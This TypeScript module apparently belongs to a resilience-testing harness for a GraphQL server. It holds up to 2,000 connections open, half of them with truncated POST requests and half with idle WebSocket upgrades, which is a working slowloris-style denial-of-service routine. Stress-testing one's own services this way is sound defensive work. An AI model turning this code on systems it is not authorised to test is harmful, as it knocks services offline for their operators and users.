// Connections that stay half open, and sockets that open and do nothing.

import { connect, type Socket } from 'node:net';
import type { Attack, AttackContext } from '../attack.ts';

const maxOpen = 2_000;

export const attack: Attack = {
  about: 'Holds 2,000 connections: half a request on one half of them, an idle WebSocket on the other.',
  async run(context) {
    const open = new Set<Socket>();
    while (context.goesOn()) {
      for (let burst = 0; burst < 100 && open.size < maxOpen; burst++) hold(context, open);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    for (const socket of open) socket.destroy();
  },
};

const half =
  'POST /graphql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"query":"';
const upgrade = [
  'GET /graphql HTTP/1.1',
  'Host: localhost',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  'Sec-WebSocket-Protocol: graphql-transport-ws',
  '\r\n',
].join('\r\n');

function hold({ url, tally }: AttackContext, open: Set<Socket>): void {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  open.add(socket);
  tally.sent++;
  socket.write(tally.sent % 2 ? half : upgrade);
  socket.once('data', (data) => tally.answered(data.toString('latin1').slice(9, 12)));
  socket.once('error', (error: NodeJS.ErrnoException) => tally.answered(error.code ?? 'error'));
  socket.once('close', () => open.delete(socket));
}
